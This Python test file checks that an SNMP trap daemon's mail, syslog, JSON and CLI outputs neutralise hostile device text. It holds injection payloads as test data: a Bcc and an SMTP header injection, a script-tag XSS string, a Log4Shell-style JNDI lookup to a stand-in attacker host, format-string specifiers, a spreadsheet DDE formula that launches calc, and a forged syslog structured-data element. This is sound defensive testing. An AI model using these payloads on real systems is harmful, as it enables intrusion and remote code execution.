#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Class 12: what a device says, in all that trapd makes of it: mails, syslog in each format and both
framings, JSON, what trapctl shows. One notification stays one message, and none of its octets is
taken for ours.

usage: texts_test.py TRAPD TRAPCTL [unittest arguments]
"""
import json
import os
import re
import socket
import threading
import unittest

from packets import DOOR_OPEN, HERE, SAID, packets, tlv, v2c_trap

from loopback import wait_for
from peers import Certificates, SmtpSink, plain_text
from trapd_fixture import SyslogSink, Trapd, main

CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
LONG = tlv(0x04, b"long " + b"<i>%s\r\n" * 8000)  # 56 KB: close to what one datagram has room for
PIECES = ("Bcc: mallory@example.org", "MAIL FROM:<mallory@example.org>", "<script>alert(1)</script>",
          "${jndi:ldap://mallory.example.org/a}", "seven %n%s%n%x {0} {device}")


class LineSink:
    """Takes syslog over TCP with a line feed behind each message."""

    def __init__(self, test):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = bytearray()
        self.connection = None
        self.thread = threading.Thread(target=self.read)
        self.thread.start()
        test.addCleanup(self.close)

    def read(self):
        try:
            self.connection, _ = self.server.accept()
            while octets := self.connection.recv(65536):
                self.received += octets
        except OSError:
            pass

    def close(self):
        for what in (self.connection, self.server):
            if what is not None:
                try:
                    what.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                what.close()
        self.thread.join()

    def lines(self):
        return bytes(self.received).decode().split("\n")[:-1]


def structured_data(message):
    """RFC 5424 6.3: {element: {name: value}} and what stands behind."""
    at = re.match(r"<\d+>1 (?:\S+ ){5}", message).end()
    elements = {}
    while message[at] == "[":
        element = re.compile(r"\[([^ =\]\"]+)((?: [^ =\]\"]+=\"(?:[^\"\\\]]|\\.)*\")*)\]").match(
            message, at)
        assert element and element[1] not in elements, message
        elements[element[1]] = {
            name: re.sub(r'\\(["\\\]])', r"\1", value) for name, value in
            re.findall(r" ([^ =]+)=\"((?:[^\"\\\]]|\\.)*)\"", element[2])}
        at = element.end()
    return elements, message[at:]


class Texts(unittest.TestCase):
    def setUp(self):
        certificates = Certificates(self.addCleanup)
        self.mail = SmtpSink(self, certificates)
        self.lines = LineSink(self)
        self.sinks = {style: SyslogSink(self) for style in ("rfc5424", "rfc3164", "ovoc", "json")}
        syslog = [{"name": style, "type": "syslog", "format": style,
                   "to": "tcp://127.0.0.1:%d" % sink.port, "select": {"origin": "device"}}
                  for style, sink in self.sinks.items()]
        lines = dict(syslog[0], name="lines", framing="lf", to="tcp://127.0.0.1:%d" % self.lines.port)
        mail = {"name": "mail", "type": "mail", "to": "smtp://127.0.0.1:%d" % self.mail.port,
                "tls": {"ca": certificates / "ca.pem", "verify": "ip"}, "login": SmtpSink.LOGIN,
                "from": "trapd@example.net", "recipients": ["duty@example.net"],
                "subject": "{severity} {resource}: {text}", "digest": {"window": "0s"},
                "select": {"origin": "device"}}
        self.trapd = Trapd(self, security={"communities": [{"name": "public"}]},
                           rules=[str(HERE / "texts.yaml")],
                           destinations=[*syslog, lines, mail]).start()
        self.said = [octets for _, _, octets in packets("texts.scn") if DOOR_OPEN in octets]
        self.said.append(v2c_trap(DOOR_OPEN, tlv(0x30, SAID, LONG)))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            for octets in self.said:
                sender.sendto(octets, ("127.0.0.1", self.trapd.port))
        self.assertEqual(self.trapd.law(len(self.said))["stored"], len(self.said))
        wait_for(lambda: all(d["backlog"] == 0 and d["under_way"] == 0
                             for d in self.trapd.ask("destinations")), "delivery")

    def only_ours(self, text):
        self.assertIsNone(CONTROLS.search(text), ascii(text[:500]))

    def test_a_mail_has_the_fields_and_recipients_that_we_gave_it(self):
        mails = self.mail.mails()
        self.assertEqual(len(mails), len(self.said))
        for mail in mails:
            for field in ("From", "To", "Subject", "Date", "Message-ID"):
                self.assertEqual(len(mail.get_all(field)), 1, mail.items())
            self.assertIsNone(mail["Bcc"])
            self.assertEqual(mail["To"], "duty@example.net")
            self.only_ours(mail["Subject"])
            self.only_ours(plain_text(mail))
        folder = self.mail.path("mails")
        for name in sorted(os.listdir(folder)):
            if name.endswith(".json"):
                with open(os.path.join(folder, name)) as file:
                    kept = json.load(file)
                self.assertEqual(kept["recipients"], ["duty@example.net"])
                self.assertEqual(kept["defects"], [])
                self.assertLessEqual(kept["longest_line"], 998)
                tags = {tag.split()[0] for tag in kept["html"]["tags"]}
                self.assertFalse({"script", "img", "i"} & tags, tags)
        bodies = "".join(plain_text(mail) for mail in mails)
        for piece in PIECES:
            self.assertIn(piece, bodies)

    def test_one_notification_is_one_syslog_message_in_each_format(self):
        for style, sink in self.sinks.items():
            messages = list(sink.messages)
            self.assertEqual(len(messages), len(self.said), style)
            for message in messages:
                self.only_ours(message)
                self.assertNotIn("\n", message)
                self.assertRegex(message, r"\A<2\d>")  # facility daemon: never the PRI of a device
        lines = self.lines.lines()
        self.assertEqual(len(lines), len(self.said))
        for message in [*self.sinks["rfc5424"].messages, *lines]:
            elements, _ = structured_data(message)
            self.assertNotEqual(elements["origin"].get("ip"), "203.0.113.9")
        whole = [structured_data(m)[0] for m in lines]
        self.assertIn('eleven"] [origin ip="203.0.113.9"] \\',
                      [value for e in whole for element in e.values() for value in element.values()])

    def test_json_is_read_back_as_it_was(self):
        records = [json.loads(m[m.index("{"):]) for m in self.sinks["json"].messages]
        texts = [record["text"] for record in records]
        for piece in PIECES:
            self.assertTrue(any(piece in text for text in texts), piece)
        self.assertIn("door: =cmd|' /C calc'!A0,\"ten\" ;", texts)

    def test_a_terminal_is_shown_no_controls(self):
        for words in (["history"], ["alarms"], ["devices"], ["rules", "unmatched"]):
            shown = self.trapd.ctl(*words)
            self.assertEqual(shown.returncode, 0, shown.stderr)
            self.only_ours(shown.stdout)
        self.assertIn("seven %n%s%n%x {0} {device}", self.trapd.ctl("alarms").stdout)
        explained = self.trapd.ctl("explain", self.said[4].hex())
        self.only_ours(explained.stdout)
        self.only_ours(self.trapd.said())


if __name__ == "__main__":
    main()
